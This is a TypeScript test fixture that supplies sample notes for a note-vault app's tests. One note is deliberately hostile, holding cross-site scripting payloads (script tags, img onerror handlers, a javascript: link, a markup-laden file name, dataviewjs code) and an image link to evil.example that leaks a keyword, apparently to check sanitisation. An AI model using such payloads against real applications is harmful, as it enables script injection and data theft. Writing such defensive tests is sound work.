// Notes that the tests add to the sample vault.

/** A note that attacks whoever shows it (case 31), with words of its own to be found by. */
export const HOSTILE = "Bench/<b onmouseover=window.PWN=5>t.md";

const hostile = `# Quibblewort harvest

The quibblewort harvest was seven baskets <img src=x onerror="window.PWN=1"> <script>window.PWN=2</script>
unfinished tag <img src=x onerror=window.PWN=3
[click](javascript:window.PWN=4) [[javascript:alert(1)]] ![leak](https://evil.example/?q=quibblewort)
![[Personal/Therapy]] \`$= window.PWN=9\` \`= this.file\`

\`\`\`dataviewjs
window.PWN=10
\`\`\`
`;

const blocks = `# Zanzibar clockwork

## Winding

The zanzibar clock is wound on Thursdays with eleven turns of the brass key. ^winding

## Oiling

The zanzibar clock is oiled in March with three drops of whale-free oil.

## Striking

The zanzibar clock strikes twice at noon, once for the town and once for the sea.
`;

export const NOTES: Record<string, string> = {
  [HOSTILE]: hostile,
  "Bench/Zanzibar clockwork.md": blocks,
};
